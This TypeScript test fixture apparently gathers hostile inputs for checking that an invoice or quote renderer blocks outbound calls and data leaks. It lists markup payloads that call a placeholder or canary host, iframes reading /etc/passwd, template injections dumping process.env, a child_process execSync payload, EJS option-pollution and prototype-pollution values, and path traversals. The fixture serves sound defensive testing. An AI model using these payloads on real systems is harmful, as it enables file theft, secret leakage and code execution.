// Every known way to make a printed page call out: markup for Markdown and for every other text, and bodies for the rest.
// Its placeholders are those of urls.ts.

/** For bodyMarkdown and every other text of a document. */
export interface HostileMarkup {
  entry: number;
  markup: string;
}

/** Fields of a document's body that are neither an address nor free text. */
export interface HostileFields {
  entry: number;
  fields: Record<string, unknown>;
}

const ten = (entry: number, markup: string[]): HostileMarkup[] => markup.map((text) => ({ entry, markup: text }));

export const hostileMarkup: HostileMarkup[] = [
  ...ten(121, ['![x]({at}m)', '![x](<{at}n> "t")', '[![x]({at}o)]({at}p)']),
  ...ten(122, ['![x][r]\n\n[r]: {at}', '![r]\n\n[r]: {at}q "t"']),
  ...ten(123, ['<{at}>', '{at}', '<//127.0.0.1:{c}/>']),
  ...ten(124, [
    '<img src={at} srcset="{at}2 2x">',
    '<picture><source srcset={at}><img></picture>',
    '<IMG SRC={at} onerror=fetch("{at}e")>',
    '<img/src={at}>',
    '<img src=x onerror="new Image().src=\'{at}\'">',
  ]),
  ...ten(125, [
    '<iframe src=file:///etc/passwd width=900 height=900></iframe>',
    '<iframe src=file://{file} width=900 height=900></iframe>',
    '<iframe src={at}></iframe>',
    '<iframe src=javascript:fetch("{at}")></iframe>',
  ]),
  ...ten(126, [
    '<iframe srcdoc="<img src={at}>"></iframe>',
    '<iframe srcdoc="<script>fetch(\'{at}\')</script>"></iframe>',
  ]),
  ...ten(127, [
    '<object data={at}></object>',
    '<object data=file://{file}></object>',
    '<embed src={at}>',
    '<applet archive={at} code=x></applet>',
    '<object type=text/html data={at}></object>',
  ]),
  ...ten(
    128,
    [
      'stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'prerender',
      'icon',
      'manifest',
      'modulepreload',
    ].map((rel) => `<link rel=${rel} ${rel === 'preload' ? 'as=image ' : ''}href={at}>`),
  ),
  ...ten(128, [
    '<link rel=dns-prefetch href=//canary-name.hostile.example>',
    '<link rel=preconnect href=https://canary-name.hostile.example>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{at}"]}]}</script>',
  ]),
  ...ten(129, [
    '<meta http-equiv=refresh content="0;url={at}">',
    '<meta http-equiv=refresh content="0;url=file://{file}">',
    '<meta http-equiv=Link content="<{at}>; rel=preconnect">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<img src={at}>">',
  ]),
  ...ten(130, ['<base href={at}><img src=x>']),
  ...ten(131, [
    '<style>@import "{at}a.css";</style>',
    '<style>@import url({at}b.css);</style>',
    '<style>@namespace url({at});</style>',
  ]),
  ...ten(132, [
    '<style>@font-face{font-family:x;src:url({at})}*{font-family:x}</style><p>text',
    '<style>@font-face{font-family:y;src:url(file://{file})}p{font-family:y}</style><p>text',
  ]),
  ...ten(
    133,
    [
      'background:url({at})',
      'display:list-item;list-style-image:url({at})',
      'cursor:url({at}),auto',
      'content:url({at})',
      'border:9px solid;border-image:url({at}) 9',
      'mask:url({at})',
      'float:left;shape-outside:url({at})',
      'background:image-set(url({at}) 1x)',
      'filter:url({at}#x)',
      'clip-path:url({at}#x)',
    ].map((style) => `<div style="${style};width:9px;height:9px">x</div>`),
  ),
  ...ten(
    134,
    [
      'fetch("{at}")',
      'x=new XMLHttpRequest;x.open("GET","{at}");x.send()',
      'new WebSocket("{at}".replace("http","ws"))',
      'new EventSource("{at}")',
      'navigator.sendBeacon("{at}","x")',
      'importScripts("{at}")',
      'new Worker(URL.createObjectURL(new Blob(["importScripts(\'{at}\')"])))',
      'p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:{c}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))',
      'location="{at}"',
      'window.open("{at}")',
      'import("{at}")',
      'new WebTransport("https://127.0.0.1:{c}/")',
      'fetch("file://{file}").then(r=>r.text()).then(t=>document.write(t))',
      'document.write("<h1>scripted-"+(6*7)+"</h1>")',
      'navigator.serviceWorker.register("{at}")',
      'new SharedWorker("{at}")',
      'document.write(`<img src={at}w>`)',
    ].map((script) => `<script>${script}</script>`),
  ),
  ...ten(134, ['<script src={at}></script>', '<script type=module src={at}></script>']),
  ...ten(135, [
    '<svg width=9 height=9><image href={at} width=9 height=9 /></svg>',
    '<svg><use href={at}#x /></svg>',
    '<svg onload=fetch("{at}")></svg>',
    '<svg><script>fetch("{at}")</script></svg>',
    '<svg><foreignObject width=9 height=9><img src={at}></foreignObject></svg>',
    '<svg><filter id=a><feImage href={at} /></filter><rect filter=url(#a) width=9 height=9 /></svg>',
    '<svg><a xlink:href="javascript:fetch(\'{at}\')"><rect width=9 height=9 /></a></svg>',
    '<svg><animate attributeName=href values={at} /></svg>',
  ]),
  ...ten(136, [
    '<video poster={at}><source src={at}2></video>',
    '<video src={at} autoplay preload=auto></video>',
    '<audio src={at} autoplay></audio>',
    '<video src={at}v><track default src={at}t></video>',
  ]),
  ...ten(137, [
    '<form action={at} id=f><input type=image src={at}i></form>',
    '<form action={at}><button formaction={at}b autofocus>b</button></form><script>document.forms[0].submit()</script>',
    '<isindex action={at} type=image src={at}>',
  ]),
  ...ten(138, [
    '<a ping={at} href={at}>x</a>',
    '<a href=javascript:fetch("{at}")>x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>1</script>)',
    '[x](file://{file})',
    '[x](vbscript:x)',
    '[x](<javascript:alert(1)>)',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '<a href="\u0001javascript:alert(1)">x</a>',
  ]),
  ...ten(139, [
    '<portal src={at}></portal>',
    '<frameset><frame src={at}></frameset>',
    '<math href={at}><mi>x</mi></math>',
    '<body background={at}>',
    '<table background={at}><tr><td background={at}d>x</table>',
    '<img lowsrc={at} dynsrc={at}>',
    '<image src={at}>',
    '<bgsound src={at}>',
    '<layer src={at}>',
    '<fencedframe src={at}></fencedframe>',
    '<xml src={at}></xml>',
    '<input type=image src={at}>',
  ]),
  ...ten(141, [
    '<%= process.env %>',
    "<%- include('/etc/passwd') %>",
    "<%- include('{file}') %>",
    '<%= process.env.CANARY_SECRET %>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a foreign template is the payload.
    '${process.env.CANARY_SECRET}',
    '{{constructor.constructor("return process.env")()}}',
    '#{process.env}',
    '<%% %>',
    '-%>',
    '%><%= global.process.env.CANARY_SECRET %><%',
  ]),
  ...ten(142, [
    "---js\n(() => require('child_process').execSync('cat {file}'))()\n---\nafter",
    '---\ntitle: !!js/function "function(){return process.env}"\n---\nafter',
  ]),
  ...ten(143, [
    '<!-- {at} -->',
    '<!--><img src={at}>-->',
    '</body></html><img src={at}>',
    '<![CDATA[<img src={at}>]]>',
    '<math><mtext><table><mglyph><style><img src={at}></style></mglyph></table></mtext></math>',
    '<svg></p><style><a id="</style><img src={at}>">',
    '<noscript><p title="</noscript><img src={at}>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src={at}>',
    '</style></title></textarea></script><img src={at}>',
    '<template><img src={at}></template>',
    '<table><svg><style><img src={at}></style></svg></table>',
    '`<img src={at}>`',
    '    <img src={at}>',
    '```\n</code></pre><img src={at}>\n```',
    '\\<img src={at}\\>',
    '&lt;img src={at}&gt;',
    '&#60;img src={at}&#62;',
    '<scr<script>ipt>fetch("{at}")</scr</script>ipt>',
    '<\u0000img src={at}>',
    '＜img src={at}＞',
    '[a](x ""><img src={at}>")',
    '| a |\n|---|\n| <img src={at}> |',
    '[^1]\n\n[^1]: <img src={at}>',
    '<a title="`" href="{at}">`"><img src={at}>',
  ]),
  ...ten(143, [Array.from({ length: 300 }, (_none, depth) => `${' '.repeat(depth)}- x`).join('\n')]),
];

/** Bodies with fields that go into the style sheet, and keys that template engines have mistaken for options. */
export const hostileFields: HostileFields[] = [
  ...[
    'red;background:url({at})',
    '#fff}</style><script>fetch("{at}")</script>',
    'url({at})',
    '#fff;@import url({at})',
    '#ggg',
    'red',
    '#fff\n}',
  ].map((brandColor) => ({ entry: 140, fields: { brandColor } })),
  ...[
    'x;@import url(//127.0.0.1:{c})',
    '</style><img src={at}>',
    'elegant;',
    '__proto__',
    '../../../etc/passwd',
    'constructor',
  ].map((fontStyle) => ({ entry: 140, fields: { fontStyle } })),
  ...['1;background:url({at})', '1}</style>', '1e400'].map((textScale) => ({ entry: 140, fields: { textScale } })),
  ...['../../etc/passwd', '</style>', 'standard has-banner" onload="'].map((layoutType) => ({
    entry: 140,
    fields: { layoutType },
  })),
  { entry: 140, fields: { currencySymbol: '<img src=x>' } },
  { entry: 141, fields: { settings: { 'view options': { client: true, escapeFunction: '1;return process.env' } } } },
  { entry: 141, fields: { 'view options': { outputFunctionName: 'x;process.exit()//' } } },
  {
    entry: 141,
    fields: { outputFunctionName: 'x;process.mainModule.require("fs")//', delimiter: '?', closeDelimiter: '>' },
  },
  { entry: 141, fields: { cache: true, filename: '/etc/passwd', include: '{file}', root: '/' } },
  { entry: 141, fields: { ['__proto__']: { client: true }, constructor: { prototype: { client: true } } } },
];

/** Texts of the body that may hold anything. */
export const TEXT_FIELDS = [
  'number',
  'clientName',
  'clientEmail',
  'clientCompany',
  'partnerName',
  'partnerEmail',
  'partnerCompany',
  'notes',
  'terms',
  'poNumber',
  'quoteIntro',
  'lineItems.description',
  'lineItems.id',
] as const;

/** Where only a number, a colour, a day or one of a few words may stand: the same markup must be refused there. */
export const STRICT_FIELDS = [
  'title',
  'date',
  'brandColor',
  'fontStyle',
  'currencySymbol',
  'lineItems.qty',
  'lineItems.rate',
] as const;
